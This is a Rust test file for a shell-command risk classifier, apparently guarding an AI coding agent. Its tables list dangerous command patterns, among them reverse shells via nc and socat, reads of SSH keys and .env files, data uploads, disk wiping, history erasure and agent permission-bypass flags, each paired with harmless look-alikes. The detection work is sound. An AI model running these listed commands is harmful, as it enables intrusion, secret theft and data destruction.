//! Examples of each effect with its level, and commands that only look dangerous.

use super::{Risk, RiskLevel, assess};
use crate::testing::Scene;
use crate::{Decision, Reason};
use RiskLevel::{Dangerous, NeedsReview};

/// Returns the risk of words; `·` is a space within a word.
fn weighed_words(line: &str) -> Risk {
    let words: Vec<String> = line.split(' ').map(|word| word.replace('·', " ")).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    Scene::new().with_argv(&words).with_facts(|_, facts| assess(facts))
}

/// Kinds of effects with their level, and commands that have them.
#[rustfmt::skip]
const EXAMPLES: &[(&str, RiskLevel, &[&str])] = &[
    ("delete", NeedsReview, &["rm -rf build", "rm --force x", "/bin/RM -r x"]),
    ("delete", NeedsReview, &["shred x"]),
    ("write", NeedsReview, &["truncate -s 0 x"]),
    ("delete", NeedsReview, &["find . -name x -delete", "find x -delete", "fd x -X rm"]),
    ("change-system", Dangerous, &["sudo ls", "doas ls"]),
    ("change-system", Dangerous, &["mkfs.ext4 /dev/sda1", "newfs_apfs disk2", "parted x", "mkfs x"]),
    ("change-system", Dangerous, &["diskutil eraseDisk JHFS+ x disk2", "diskutil unmount x"]),
    ("change-system", Dangerous, &["dd if=x of=/dev/disk2", "x of=/dev/sda"]),
    ("write", NeedsReview, &["dd if=/dev/zero of=x", "dd of=x"]),
    ("change-system", Dangerous, &["chmod 777 x", "chmod a+rwx x", "chmod u+s x", "chmod +s x", "chmod +w x"]),
    ("write", NeedsReview, &["chown -R u x", "chgrp --recursive x y"]),
    ("change-repository", Dangerous, &["git push --force", "git push origin +main", "git push -f", "git push o :x", "git push --mirror", "op run -- git push -f", "devbox run -- git push -f", "rtk proxy git push -f"]),
    ("change-repository", Dangerous, &["git reset --hard", "git clean -fd", "git checkout -- .", "git clean -f", "git restore ."]),
    ("change-repository", Dangerous, &["git checkout --ours f", "git checkout -p", "git checkout --pathspec-from-file=f", "git checkout src/[ab].rs", "git branch -Dq x", "git branch -rD x"]),
    ("change-repository", Dangerous, &["git worktree add -B main ../y", "git fetch --stdin o", "git fetch --refmap=x:main o", "git pull o +x:main", "git fetch -pP", "git lfs migrate import"]),
    ("change-repository", Dangerous, &["git branch -D x", "git checkout -- x", "git stash clear", "git filter-branch x", "git stash drop", "git reflog expire"]),
    ("change-system", Dangerous, &["shutdown -h now", "reboot"]),
    ("change-system", Dangerous, &["killall node", "kill -9 5", "xkill x", "kill -KILL 5"]),
    ("change-system", Dangerous, &["launchctl load x", "systemctl stop x", "service x restart"]),
    ("delete", Dangerous, &["rm -rf /tmp/*", "rm -rf /tmp/[a-z]*", "rm -rf /tmp/{a,*}"]),
    ("change-system", Dangerous, &["helmfile destroy", "velero backup delete x", "kind delete cluster", "turso db destroy x", "consul kv delete -recurse x", "terraform state push x", "npm org set a b admin", "stripe refunds create", "psql -c drop table x", "aws route53 change-resource-record-sets"]),
    ("change-system", Dangerous, &["virsh undefine x", "VBoxManage unregistervm x --delete", "multipass purge", "dokku apps:destroy x", "kops delete cluster x --yes", "amplify delete", "pulumi state delete x", "skopeo delete docker://r/x", "knife node delete x", "vault secrets disable x", "ollama rm x", "wp db reset", "dbt run --full-refresh", "airflow db reset", "hub delete o/r", "glab api -X DELETE x"]),
    ("change-system", Dangerous, &["mc rm --recursive a/b", "mc anonymous set public a/b", "s5cmd rm s3://b/x", "scw instance server delete x", "aliyun ecs DeleteInstance", "azcopy remove x", "sanity dataset delete x", "kafka-topics --delete --topic x", "temporal workflow terminate -w x", "databricks fs rm -r x", "twilio phone-numbers:remove x"]),
    ("publish", Dangerous, &["jsr publish", "maturin publish", "shorebird release ios", "crane push a b", "oras push x", "shopify theme push --live", "sf project deploy start", "npx convex deploy", "npx jsr publish", "npx clasp push", "kaggle kernels push", "tuist share x"]),
    ("change-system", Dangerous, &["cockroach sql -e drop·database·x", "snow sql -q drop·table·x", "cqlsh -e DROP·KEYSPACE·x", "cypher-shell MATCH·(n)·DETACH·DELETE·n", "psql -c GRANT·x·TO·PUBLIC", "psql -c ALTER·ROLE·x·SUPERUSER"]),
    ("change-repository", Dangerous, &["svn revert -R .", "svn delete -m x http://h/x", "hg update -C", "hg strip x", "hg purge", "hg push -f", "sl clean", "jj op abandon x"]),
    ("publish", Dangerous, &["yarn workspace a npm publish", "ollama push x", "kamal deploy", "cf push", "amplify publish", "circleci orb publish x", "ansible-galaxy collection publish x", "npx eas-cli submit", "semantic-release --dry-run false"]),
    ("publish", Dangerous, &["deno publish", "sbt publish", "nx release", "wasm-pack publish", "supabase functions deploy", "cargo release patch --execute"]),
    ("serve", Dangerous, &["vite --host", "uvicorn a:b --host 0.0.0.0"]),
    ("change-system", Dangerous, &["crontab -e", "crontab x", "crontab", "at now"]),
    ("change-system", Dangerous, &["defaults write a b c", "csrutil disable", "sysctl -w x", "defaults delete x"]),
    ("use-secret", Dangerous, &["security find-generic-password -w x", "security delete-keychain x"]),
    ("control-app", Dangerous, &["osascript x.scpt"]),
    ("change-system", Dangerous, &["docker run -v /:/h alpine", "docker run --privileged x", "podman run -v ~:/h x", "docker run --volume=/:/h x", "docker run -v /var/run/docker.sock:/s x", "docker run --mount type=bind,src=/,dst=/h x"]),
    ("change-system", Dangerous, &["docker run --pid host x", "docker run --network=host x", "podman run --net host x", "docker run --privileged=true x", "docker run --cap-add ALL x", "docker run --cap-add=SYS_ADMIN x"]),
    ("change-system", Dangerous, &["docker run --mount type=bind,dst=/h,src=/ x", "docker run -v $HOME:/h x", "docker run --security-opt seccomp=unconfined x", "docker run --device /dev/sda x", "docker run --userns=host x"]),
    ("change-system", Dangerous, &["docker system prune", "docker volume rm x", "docker rm -f x", "podman rm --volumes x"]),
    ("delete", NeedsReview, &["rsync -a --delete a b", "rsync --remove-source-files a b"]),
    ("publish", Dangerous, &["npm publish", "cargo publish", "gem push x.gem", "twine upload x"]),
    ("change-system", Dangerous, &["kubectl delete pod x", "terraform destroy", "aws s3 rb x", "helm uninstall x", "aws ec2 terminate-instances", "fly destroy x", "gcloud x delete-y", "oc drain n"]),
    ("change-system", Dangerous, &["gh repo delete x", "curl -X DELETE u", "gh release delete x", "gh api DELETE x", "http DELETE u"]),
    ("change-system", Dangerous, &["curl -sXDELETE u", "gh api -iXDELETE x", "gh api --method=delete x", "wget --method=DELETE u", "aws sqs purge-queue x", "aws kms schedule-key-deletion x", "mysqladmin -f drop x", "redis-cli del x", "django-admin flush"]),
    ("change-system", Dangerous, &["aws ec2 authorize-security-group-ingress x", "aws s3 presign s3://x/y", "asr restore -source x", "cryptsetup luksFormat x", "zpool destroy x", "fdesetup disable", "xattr -cr x.app", "kill -s KILL 5", "kill -n 9 5"]),
    ("change-system", Dangerous, &["claude --dangerously-skip-permissions -p x", "codex --yolo x", "claude --permission-mode bypassPermissions", "codex mcp add x -- y", "git config http.sslVerify false", "wget --no-check u"]),
    ("use-secret", Dangerous, &["aws configure get aws_secret_access_key", "aws configure export-credentials", "aws sts assume-role x", "aws eks get-token x", "gcloud kms decrypt x", "gcloud projects add-iam-policy-binding x", "heroku auth:token", "curl -su a:b u"]),
    ("use-secret", NeedsReview, &["terraform output -raw x", "terraform show -json", "codesign -s ID x"]),
    ("publish", Dangerous, &["docker build --output type=registry x", "eas update", "eas build --auto-submit", "wrangler pages deploy x", "gh-pages -d dist"]),
    ("send", Dangerous, &["gh gist create f", "wget --body-file=f u"]),
    ("delete", NeedsReview, &["rimraf dist", "npx rimraf dist"]),
    ("run-downloaded-code", NeedsReview, &["deno run https://h/x.ts"]),
    ("change-system", Dangerous, &["dropdb x", "dropuser x", "psql -c DROP·TABLE·x", "redis-cli FLUSHALL"]),
    ("run-inline-code", NeedsReview, &["python3 -c print", "node -e x", "perl -e x", "python -c x", "eval x", "php -r x", "sed '1e id' f", "sed -n 'w out' f"]),
    ("run-elsewhere", Dangerous, &["nc -e /bin/sh h 1", "socat tcp:h exec:sh", "cat /dev/tcp/h/1", "cat /dev/udp/h/1", "ncat -c sh h 1", "socat x EXEC:sh"]),
    ("change-system", Dangerous, &["tee /Users/u/.zshrc", "cp x ~/.bashrc", "mv x /Users/u/Library/LaunchAgents/x", "cp x /Library/LaunchDaemons/x"]),
    ("use-secret", Dangerous, &["cat ~/.ssh/id_rsa", "cat .env", "cat x/.env"]),
    ("send", Dangerous, &["curl -d @x u", "curl -T x u", "scp x h:", "curl --upload-file x u", "curl -F x=@f u", "curl -d@x u", "curl -F@x u", "wget --post-file=x u", "sftp h"]),
    ("change-system", Dangerous, &["pfctl -d", "iptables -F", "ufw disable"]),
    ("change-system", Dangerous, &["passwd u", "dscl . -create x"]),
    ("change-system", Dangerous, &["xattr -d com.apple.quarantine x", "xattr -dr com.apple.quarantine x"]),
    ("delete", NeedsReview, &["mv x /dev/null", "cp x /dev/null"]),
    ("change-system", Dangerous, &["chmod 700 /", "tar cf x ~", "zip x ~/", "mv /* x"]),
    ("change-system", Dangerous, &["cp x /etc/hosts", "rm /usr/bin/x", "touch /boot/x"]),
    ("change-system", Dangerous, &["brew uninstall x", "apt remove x", "pip uninstall x"]),
    ("run-downloaded-code", NeedsReview, &["npx x", "npm exec x", "bunx x"]),
    ("change-system", Dangerous, &["tmutil deletelocalsnapshots /", "tmutil disable", "tmutil delete x", "tmutil thinlocalsnapshots x"]),
    ("change-system", Dangerous, &["kextload x.kext", "modprobe x", "kmutil load -p x", "insmod x", "kmutil install"]),
    ("install", Dangerous, &["installer -pkg x.pkg -target /", "dpkg -i x.deb", "rpm -U x", "rpm --install x", "softwareupdate -i x", "softwareupdate --install"]),
    ("change-system", Dangerous, &["mount /dev/x /mnt", "umount /mnt", "hdiutil attach x.dmg", "hdiutil detach x"]),
    ("change-system", Dangerous, &["profiles install -path x", "profiles remove x"]),
    ("change-system", Dangerous, &["lldb -p 5", "strace -p 5", "gdb --pid=5", "gdb --pid=5", "dtrace -n x"]),
    ("use-secret", Dangerous, &["screencapture x.png", "pbpaste", "ffmpeg -f avfoundation -i 0 x", "xclip -o", "ffmpeg -f x11grab x"]),
    ("change-system", Dangerous, &["history -c", "log erase", "rm ~/.zsh_history", "history -d 5", "journalctl --vacuum-size=1M", "shred x/.bash_history"]),
    ("change-system", Dangerous, &["umask 000", "umask 0", "umask 00", "umask 0000"]),
    ("change-system", Dangerous, &["setfacl -m u:x:rw f", "chmod +a x f", "setcap x f", "setfacl x", "chmod -N x"]),
    ("write", NeedsReview, &["ln -sf a b", "ln --force a b", "gln -f a b"]),
    ("write", NeedsReview, &["sed -i s/a/b/ f", "perl -pi -e x f", "ruby -i x", "gsed --in-place x"]),
    ("change-system", Dangerous, &["tar -xPf x.tar", "unzip -o x.zip", "bsdtar -P x", "tar --absolute-names x", "unzip -: x"]),
    ("write", NeedsReview, &["cp /dev/null x", "cat /dev/null x", "dd if=/dev/null of=x"]),
    ("change-system", Dangerous, &["openssl enc -aes256 -in x", "7z -px a b"]),
    ("change-system", NeedsReview, &["gpg -c x", "zip -e x y", "age --encrypt x", "zip -e x"]),
    ("change-system", Dangerous, &["xmrig -o x"]),
    ("change-system", Dangerous, &["git config --global core.editor x", "git config --system x"]),
    ("change-system", Dangerous, &["cp x .git/hooks/pre-commit", "git config core.hooksPath x", "mv x .husky/y", "git -c core.hooksPath=x log"]),
    ("change-repository", NeedsReview, &["git rebase main", "git commit --amend", "git rebase x", "git commit --amend"]),
    ("install", NeedsReview, &["npm install x", "pip install x", "cargo install x", "yarn add x", "bun i x", "go install x", "apk add x", "apt install x"]),
    ("change-system", Dangerous, &["pip install --index-url=u x", "npm i --registry=u x", "uv --extra-index-url x", "gem --registry=u"]),
    ("change-system", Dangerous, &["curl -k u", "ssh -o StrictHostKeyChecking=no h", "curl --insecure u", "git -c http.sslVerify=false x", "wget --no-check-certificate u"]),
    ("serve", Dangerous, &["ssh -R 1:h:2 h", "ngrok http 80", "autossh -L 1:h:2 h", "ssh -D 1 h", "tailscale up"]),
    ("serve", NeedsReview, &["nc -l 80", "python3 -m http.server", "ncat --listen 80", "socat TCP-LISTEN:80 x", "python -m pyftpdlib", "php -S x:80", "kubectl port-forward p 1"]),
    ("send", Dangerous, &["rsync -a x h:y", "aws s3 cp x s3://b", "rclone sync a b", "rclone move a b", "gsutil cp x gs://b", "s3cmd put x s3://b", "rsync h:x g:y"]),
    ("send", Dangerous, &["mail -s x a@b", "sendmail x"]),
    ("use-secret", Dangerous, &["ssh-keygen -t ed25519", "ssh-add x", "ssh-copy-id h", "ssh-keygen"]),
    ("use-secret", Dangerous, &["gpg --export-secret-keys", "gpg2 --delete-secret-keys x"]),
    ("use-secret", Dangerous, &["gh auth token", "vault kv get x", "gcloud auth print-access-token", "gcloud auth print-identity-token", "az account get-access-token", "aws iam x", "aws x get-secret-value", "op read x", "vault token x", "pass show x", "pass x", "npm token create", "kubectl get --raw /x"]),
    ("use-secret", NeedsReview, &["env", "printenv", "export -p", "set", "printenv x"]),
    ("use-secret", Dangerous, &["sshpass -p x ssh h", "mysql -psecret", "curl -u a:b u", "mysqldump --password=x", "wget --password x", "mariadb -px"]),
    ("run-elsewhere", Dangerous, &["kubectl exec p -- ls", "kubectl attach p", "oc run x"]),
    ("publish", Dangerous, &["docker push x", "helm push x", "nerdctl push x"]),
    ("change-system", Dangerous, &["gh pr merge 5", "gh api -X POST x", "gh secret set x", "gh api PUT x"]),
    ("change-repository", NeedsReview, &["git remote add x u", "git remote set-url o u", "git remote add x"]),
    ("change-system", Dangerous, &["pg_restore -c x", "mongorestore --drop", "pg_restore --clean x", "redis-cli RESTORE x"]),
    ("change-system", Dangerous, &["rails db:drop", "prisma migrate reset", "python3 manage.py flush", "x db:reset", "alembic downgrade x", "python x/manage.py reset_db"]),
    ("send", NeedsReview, &["curl -X POST u", "curl -d a=b u", "curl --json x u", "xh PUT u", "http POST u", "curl -F x=y u", "curl --form x=y u"]),
    ("run-downloaded-code", Dangerous, &["pnpm dlx x", "npx -y x", "go run x@v1"]),
    ("send", NeedsReview, &["git push origin main", "gh pr create", "glab mr close 5"]),
    ("run-project-code", NeedsReview, &["npm test", "cargo build", "make x", "pytest", "./x.sh"]),
    ("change-repository", NeedsReview, &["git commit -m x", "git add x", "git merge x"]),
    ("fetch", NeedsReview, &["git fetch", "curl u", "docker pull x"]),
    ("run-elsewhere", NeedsReview, &["ssh h ls", "docker run x"]),
];

/// Commands that have a part of one that is dangerous.
#[rustfmt::skip]
const HARMLESS: &[&str] = &[
    "rm x", "git rm -r x", "ls -rf", "echo shred", "find . -name delete", "find . -name rm", "fd rmx",
    "ls -delete", "pseudo ls", "echo mkfs", "mk x", "diskutil list", "diskutil", "ls eraseDisk",
    "dd if=/dev/disk2 of=x", "x of=/dev/null", "x of=x", "dd if=x of=/dev/null", "dd if=x", "ls of=x",
    "chmod 644 x", "chmod +x x", "ls 777", "ls u+s", "ls +s", "chown u x", "ls -R", "git push origin main",
    "git pull -f", "git +x", "git log -- +x", "hg push -f", "ls push +x", "git reset x",
    "git checkout main", "git clean -n", "git add .", "git add -f x", "git log --hard", "hg reset --hard",
    "hg clean -f", "hg restore .", "git branch -d x", "git stash", "git x -D", "git reflog", "git x drop",
    "git x expire", "hg branch -D x", "hg stash drop", "hg reflog delete", "uptime", "kill 5", "ls -9",
    "launchctl list", "systemctl status x", "systemctl", "ls stop", "crontab -l", "ls -l", "ls x",
    "defaults read a", "csrutil status", "sysctl -a", "sysctl", "ls write", "defaults", "security help",
    "security", "echo osascript", "docker run -v /data:/d x", "ls --privileged", "ls /:/h", "docker ps",
    "docker rm x", "docker run -v /d:/d x", "ls prune", "ls rm -f", "ls volume rm", "rsync -a a b",
    "ls --delete", "ls --remove-source-files", "npm run publish", "cargo build", "gem list",
    "twine check x", "ls publish", "ls push", "ls upload", "gem publish", "kubectl get pods",
    "terraform plan", "helm list", "ls delete", "ls destroy", "ls rb", "ls terminate", "ls uninstall",
    "aws s3 ls", "terraform delete", "gh repo view x", "curl u", "gh release list", "ls repo delete",
    "ls release delete", "ls DELETE", "psql -c select", "ls drop·table", "ls FLUSHALL", "psql -c select·1",
    "redis-cli GET", "python3 x.py", "node x.js", "ls -c", "ls -e", "python3 -m x", "ruby x.rb",
    "nc -z h 1", "ls exec:sh", "cat /dev/null", "socat x y", "cat ~/.zshrc", "cp x y",
    "cat x/LaunchAgents/x", "ls ~/.bashrc", "cp", "ls ~/.ssh", "cat .envrc", "cat x.env", "cat env",
    "curl -d a=b u", "ls -T", "ls @x", "wget u", "ls --post-file=x", "curl -F x=y u", "iptables -L",
    "ls disable", "ufw status", "id u", "xattr -l x", "ls com.apple.quarantine", "mv x y", "ls /dev/null",
    "tar cf x src", "ls /", "zip x y", "cp /etc/hosts x", "ls /etc/x", "cp /etc/x y", "brew install x",
    "ls remove", "brew", "pip list", "npm test", "ls exec", "ls dlx", "npm x", "tmutil listbackups",
    "tmutil status", "tmutil", "kmutil showloaded", "lsmod", "ls load", "kmutil", "installer -help",
    "dpkg -l", "ls -pkg", "ls -i", "ls --install", "softwareupdate -l", "dpkg x", "mount", "hdiutil info",
    "mount -l", "hdiutil imageinfo x", "profiles list", "ls install", "profiles", "gdb ./x", "strace ls",
    "ls -p", "ls -n", "gdb x", "ffmpeg -i a b", "pbcopy", "ls x11grab", "ls pulse", "history", "log show",
    "ls erase", "ls --vacuum-size=1M", "ls x_history", "log", "journalctl x", "rm history", "umask 022",
    "umask", "ls 0", "umask 077", "getfacl f", "chmod +x f", "ls -N", "ln -s a b", "ls -f", "sed s/a/b/ f",
    "perl x.pl", "ruby x", "tar -xf x.tar", "unzip x.zip", "ls -P", "ls -o", "ls :", "tar x", "unzip x",
    "ls /dev/null x", "cp x /dev/null", "cp /dev/null", "openssl version", "gpg --verify x",
    "openssl enc -d x", "ls enc", "ls -px", "gpg x", "rig", "git config user.name x", "git log --global",
    "git x --global", "git config x", "hg config --global", "ls .git/hooks/", "git log", "ls .husky/x",
    "hg core.hookspath", "git x", "git merge main", "git commit -m x", "git log --amend", "git commit",
    "hg rebase x", "hg commit --amend", "npm run install", "ls i", "ls add", "yarn x", "go add x", "apk x",
    "npm", "pip install x", "ls --registry=u", "npm i x", "ssh h", "ls -k", "ls stricthostkeychecking=no",
    "ssh h ls", "ls -L", "nc h 80", "ls LISTEN", "ls http.server", "ls -S", "nc x 80", "php x",
    "rsync h:x y", "rsync a ./b:c", "rsync a :b", "rclone ls a", "aws s3 cp s3://b x", "aws s3 ls s3://b",
    "ls h:y", "ls sync", "cp x s3://b", "rclone", "mailbox", "ssh-keygen -l -f x", "ssh x",
    "ssh-keygen -F h", "gpg --export x", "gpg --list-keys", "ls --export-secret-keys", "gh auth status",
    "vault status", "ls auth token", "ls print-x-token", "ls get-access-token", "ls iam",
    "ls get-secret-value", "ls read", "ls kv", "ls show", "ls token", "ls --raw", "gcloud print-x",
    "op list x", "pass git log", "pass", "az x", "kubectl get x", "env X=1 ls", "set -e", "ls", "env x",
    "export x", "mysql -p", "ls --password=x", "ls -u", "wget -u", "mysql x", "mysql p", "kubectl",
    "oc get x", "docker pull x", "gh pr view 5", "gh api x", "ls pr merge", "ls api POST", "gh x POST",
    "gh pr list", "git remote -v", "hg remote add x", "hg remote set-url x", "git remote",
    "pg_restore -l x", "ls --drop", "ls RESTORE", "mongorestore x", "rails db:migrate", "prisma generate",
    "ls migrate reset", "ls downgrade", "ls flush", "python manage.py x", "alembic upgrade x",
    "docker run --network none x", "docker run --cap-add NET_ADMIN x", "docker run -v d:/d x", "claude -p x",
    "redis-cli get x", "aws configure get region", "kill -s TERM 5", "git fetch --prune", "eas build", "gh gist list",
    "terraform output", "codesign -s - x", "git pull --force", "claude mcp list", "asr info x",
    "prisma migrate x", "rm -rf /tmp/build-*", "rm -f /tmp/*.log", "uvicorn a:b", "kind get clusters", "stripe listen",
    "cargo release patch", "supabase stop", "semantic-release --dry-run", "yarn workspace a build", "psql -c select·'to·public'", "svn status", "mc ls a", "temporal workflow list", "crane ls x", "npx convex dev", "hg update", "tox -e py", "ollama list", "virsh list", "nomad status", "vite", "curl -o x u", "ls POST", "ls -d", "xh -d u", "http u",
];

#[test]
fn commands_have_the_effects_and_levels_of_their_words() {
    for (kind, level, lines) in EXAMPLES {
        for line in *lines {
            let risk = weighed_words(line);
            let has = risk.effects.iter().any(|rated| rated.effect.kind() == *kind);
            assert!(has && risk.level == *level, "{line}: {kind} {level:?}: {risk:?}");
        }
    }
}

#[test]
fn what_only_looks_like_a_danger_is_none() {
    for line in HARMLESS {
        let risk = weighed_words(line);
        assert!(risk.level != Dangerous, "{line}: {risk:?}");
    }
}

/// Risk explains and orders: the verdict is the rules', whatever it says.
#[test]
fn risk_never_changes_a_verdict() {
    for (_, _, lines) in EXAMPLES {
        for line in *lines {
            let asked = Scene::new().with_shell_text(line).judge_request();
            let builtin = asked.reason == Reason::Builtin;
            assert!(builtin || asked.decision != Decision::Allow, "{line}: nothing allows it, however safe");
        }
    }
    let allowed =
        Scene::new().with_allow_rule("git push *").with_shell_text("git push --force").judge_request();
    assert_eq!((allowed.decision, allowed.risk.level), (Decision::Allow, Dangerous));
}
